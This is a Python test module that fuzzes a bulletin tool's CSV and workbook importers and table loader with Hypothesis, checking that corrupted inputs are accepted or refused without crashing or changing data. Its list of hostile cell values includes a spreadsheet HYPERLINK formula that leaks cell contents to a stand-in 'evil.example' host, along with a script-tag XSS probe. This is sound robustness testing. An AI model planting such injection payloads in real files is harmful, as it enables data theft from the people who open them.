"""Fuzzing (Hypothesis): corrupted tables and importer inputs are accepted or refused, never crash.

Issue 12 asks that random corruptions of every table and of each importer's input end in
acceptance or a clear refusal (status 2, a message naming the file) with no traceback, and never
change ``data/`` or ``reports/``. Each example corrupts a small copy (cells replaced by hostile
values, rows deleted, repeated or shuffled, columns dropped, bytes cut, flipped or re-encoded,
quotes left open, a 200,000-character field) and runs the real code on it.

The examples are derandomised so that CI sees the same ones on every run; set
``BULLETIN_FUZZ_EXAMPLES`` (default 12 per test) and ``BULLETIN_FUZZ_RANDOM=1`` to search longer
and wider on a workstation.
"""

from __future__ import annotations

import contextlib
import csv
import functools
import hashlib
import io
import os
import shutil
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from import_samples import OFFICIAL_SAMPLE_NAMES, Sample, inline_samples, official_samples

from bulletin.cli.main import main
from bulletin.core.paths import DATA_DIR, OFFICIAL_DIR, REPORTS_DIR
from bulletin.data.tables import TableError, load_table, table_specs

FUZZ = settings(
    max_examples=int(os.environ.get("BULLETIN_FUZZ_EXAMPLES", "12")),
    derandomize=os.environ.get("BULLETIN_FUZZ_RANDOM") != "1",
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)

HOSTILE = [
    "", " ", "-1", "-0", "1e309", "nan", "NaN", "inf", "1,5", "12,345", "1.234.567", "0x10",
    "=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(A1)", "+1", "\t=1",
    '"', "'", ";", ",", "\n", "\r", "\x00", "\ufeff", "KGZ", "Kyrgyzstan", "Atlantis", "QQQ",
    "2017", "2017.5", "1899", "20170", "99999999999999999999", "Heroin", "heroin", "Gram", "Unit",
    "Litre", "N/A", "…", "–", "-", "x", "<script>alert(1)</script>", "2016-02-30", "2016-13-01",
    "Tajikistan;Atlantis", "official", "reconstructed", "stated", "Ёлка", "Кыргызстан",
]
CELL = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=12),
    st.integers(min_value=-(10**15), max_value=10**15),
    st.floats(allow_nan=True, allow_infinity=True),
    st.none(),
)
ROW_OPS = ("set", "set", "set", "delete", "repeat", "swap", "blank", "garbage", "drop_column",
           "truncate_rows", "header_cell")
BYTE_OPS = ("cut", "flip", "latin1", "open_quote", "huge_field", "crlf", "blank_lines", "bom")


# --- what must never change ------------------------------------------------------------------


def _snapshot(folder: Path) -> dict[str, str]:
    # reports/screenshots/ is the browser tests' to write, maybe at the same time in another
    # pytest-xdist worker.
    if not folder.is_dir():
        return {}
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and p.relative_to(folder).parts[0] != "screenshots"
    }


@pytest.fixture(scope="module", autouse=True)
def project_folders_unchanged() -> Iterator[None]:
    """The project's own data/ and reports/ are never touched by anything below."""
    before = (_snapshot(DATA_DIR), _snapshot(REPORTS_DIR))
    yield
    assert (_snapshot(DATA_DIR), _snapshot(REPORTS_DIR)) == before


# --- corruptions -------------------------------------------------------------------------------


def _corrupt_rows(draw: st.DrawFn, sheets: dict[str, list[list]]) -> dict[str, list[list]]:
    """Apply one to four row and cell changes to a copy of ``sheets``."""
    sheets = {name: [list(row) for row in rows] for name, rows in sheets.items()}
    for _ in range(draw(st.integers(1, 4))):
        name = draw(st.sampled_from(sorted(sheets)))
        rows = sheets[name]
        op = draw(st.sampled_from(ROW_OPS))
        if not rows:
            rows.append([draw(CELL)])
            continue
        _change_rows(draw, rows, op, draw(st.integers(0, len(rows) - 1)))
    return sheets


def _change_rows(draw: st.DrawFn, rows: list[list], op: str, i: int) -> None:
    """Apply one row change ``op`` (one of ``ROW_OPS``) at row ``i``."""
    if op in ("set", "header_cell"):
        _set_cell(draw, rows[0 if op == "header_cell" else i])
    elif op == "delete":
        del rows[i]
    elif op == "repeat":
        rows.insert(i, list(rows[i]))
    elif op == "swap":
        k = draw(st.integers(0, len(rows) - 1))
        rows[i], rows[k] = rows[k], rows[i]
    elif op == "blank":
        rows.insert(i, [])
    elif op == "garbage":
        rows.insert(i, draw(st.lists(CELL, max_size=14)))
    elif op == "drop_column":
        j = draw(st.integers(0, max(len(r) for r in rows)))
        for row in rows:
            if j < len(row):
                del row[j]
    elif op == "truncate_rows":
        del rows[i:]


def _set_cell(draw: st.DrawFn, row: list) -> None:
    """Set a cell of ``row`` to a drawn value, or add one cell more than the header."""
    if not row:
        row.append(None)
    j = draw(st.integers(0, len(row)))
    value = draw(CELL)
    if j == len(row):
        row.append(value)  # one cell more than the header
    else:
        row[j] = value


def _corrupt_bytes(draw: st.DrawFn, data: bytes, text: bool) -> bytes:
    """Sometimes change the file's bytes: cut it, flip a byte, re-encode, break the quoting."""
    if not data or not draw(st.booleans()):
        return data
    op = draw(st.sampled_from(BYTE_OPS if text else ("cut", "flip")))
    # A position drawn independently of the length: a workbook's bytes carry its save time, so
    # their length differs from one run of the same example to the next.
    at = draw(st.integers(0, 1 << 20)) % len(data)
    if op == "cut":
        return data[:at]
    if op == "flip":
        return data[:at] + bytes([data[at] ^ draw(st.integers(1, 255))]) + data[at + 1 :]
    if op == "latin1":
        return data[:at] + "Ö".encode("latin-1") + data[at:]
    if op == "open_quote":
        return data[:at] + b'"' + data[at:]
    if op == "huge_field":
        return data[:at] + b"x" * 200_000 + data[at:]
    if op == "crlf":
        return data.replace(b"\n", b"\r\n")
    if op == "blank_lines":
        return data[:at] + b"\n\n" + data[at:]
    return b"\xef\xbb\xbf" + data  # bom


def _write_corrupted(draw: st.DrawFn, sample: Sample, folder: Path) -> Path:
    corrupted = Sample(
        sample.name, _corrupt_rows(draw, sample.sheets), sample.kind, sample.delimiter,
        sample.options,
    )
    path = corrupted.write(folder)
    path.write_bytes(_corrupt_bytes(draw, path.read_bytes(), text=sample.kind == "csv"))
    return path


# --- running the command ---------------------------------------------------------------------


def _run(argv: list[str]) -> tuple[int, str]:
    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        status = main(argv)
    return status, err.getvalue()


def _accepted_or_refused(argv: list[str], named: str, data_dir: Path) -> None:
    before = _snapshot(data_dir)
    status, err = _run(argv)
    assert status in (0, 2), f"status {status}:\n{err}"
    assert "Traceback" not in err and "internal error" not in err, err
    if status == 2:
        assert named in err, err
        assert _snapshot(data_dir) == before, "a refused import changed the data folder"


# --- importers' inputs -------------------------------------------------------------------------


# The tests are named after the samples when pytest collects them, in every worker; the samples
# themselves are cut from the publications (seconds of openpyxl) only when a test needs them.
SAMPLE_NAMES = sorted([sample.name for sample in inline_samples()]
                      + (list(OFFICIAL_SAMPLE_NAMES) if OFFICIAL_DIR.is_dir() else []))


@functools.cache
def samples() -> dict[str, Sample]:
    """Each sample by its name: the inline ones, and those cut from the official publications."""
    found = inline_samples()
    if OFFICIAL_DIR.is_dir():
        found += official_samples(OFFICIAL_DIR)
    return {sample.name: sample for sample in found}


def test_the_samples_are_the_ones_the_tests_are_named_after():
    assert sorted(samples()) == SAMPLE_NAMES


@pytest.fixture(scope="module")
def imported(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """For each sample, a data folder into which the clean sample was imported."""
    folders = {}
    for name, sample in samples().items():
        root = tmp_path_factory.mktemp("imported")
        status, err = _run(
            ["import", str(sample.write(root)), "--data-dir", str(root / "data"), *sample.options]
        )
        assert status == 0, f"the clean sample {name} is refused:\n{err}"
        folders[name] = root / "data"
    return folders


@pytest.mark.parametrize("name", SAMPLE_NAMES)
@FUZZ
@given(data=st.data())
def test_a_corrupted_input_is_imported_or_refused(
    name: str, data: st.DataObject, imported: dict[str, Path], tmp_path_factory
) -> None:
    sample = samples()[name]
    root = tmp_path_factory.mktemp("fuzz")
    data_dir = root / "data"
    shutil.copytree(imported[name], data_dir)
    path = _write_corrupted(data.draw, sample, root)
    _accepted_or_refused(
        ["import", str(path), "--data-dir", str(data_dir), *sample.options], path.name, data_dir
    )


# --- tables ----------------------------------------------------------------------------------


TABLES = sorted(table_specs())
HEAD_LINES = 30  # a table's first lines: every column and kind of value, quick to check


def _table_rows(name: str) -> list[list[str]]:
    path = DATA_DIR / f"{name}.csv"
    with path.open(newline="", encoding="utf-8") as handle:
        return [row for _, row in zip(range(HEAD_LINES), csv.reader(handle), strict=False)]


def _csv_field(cell: str | None) -> str:
    """A field as a CSV writer quotes it; by hand, as Python 3.10's csv writer refuses a NUL."""
    text = "" if cell is None else str(cell)
    if any(c in text for c in ',"\r\n'):
        return '"' + text.replace('"', '""') + '"'
    return text


def _write_table(draw: st.DrawFn, name: str, folder: Path) -> Path:
    rows = _corrupt_rows(draw, {name: _table_rows(name)})[name]
    text = "".join(",".join(_csv_field(cell) for cell in row) + "\n" for row in rows)
    path = folder / f"{name}.csv"
    path.write_bytes(_corrupt_bytes(draw, text.encode("utf-8"), text=True))
    return path


@pytest.mark.parametrize("name", TABLES)
@FUZZ
@given(data=st.data())
def test_a_corrupted_table_is_loaded_or_refused_with_its_file(
    name: str, data: st.DataObject, tmp_path_factory
) -> None:
    folder = tmp_path_factory.mktemp("table")
    path = _write_table(data.draw, name, folder)
    try:
        frame = load_table(name, folder)
    except TableError as error:
        assert str(path) in str(error)
        assert "Traceback" not in str(error)
        for problem in error.problems:
            assert problem.line is None or 1 <= problem.line <= path.read_bytes().count(b"\n") + 1
    else:
        assert isinstance(frame, pd.DataFrame)


IMPORTED_INTO = {  # a table an importer writes, and the sample that writes it
    "seizures_annual": "wdr2018.csv",
    "indicators": "16-1-1.csv",
    "seizure_cases": "ids.csv",
    "drug_offences": "annex-10.1.xlsx",
    "drug_arrests": "annex-10.1.xlsx",
}


@pytest.mark.parametrize("name", sorted(IMPORTED_INTO))
@FUZZ
@given(data=st.data())
def test_an_import_into_a_corrupted_table_is_accepted_or_refused(
    name: str, data: st.DataObject, tmp_path_factory
) -> None:
    sample = samples().get(IMPORTED_INTO[name])
    if sample is None:
        pytest.skip(f"no sample of {IMPORTED_INTO[name]} (../shared/data/official/ is absent)")
    root = tmp_path_factory.mktemp("into")
    data_dir = root / "data"
    data_dir.mkdir()
    _write_table(data.draw, name, data_dir)
    path = sample.write(root)
    _accepted_or_refused(
        ["import", str(path), "--data-dir", str(data_dir), *sample.options], f"{name}.csv", data_dir
    )
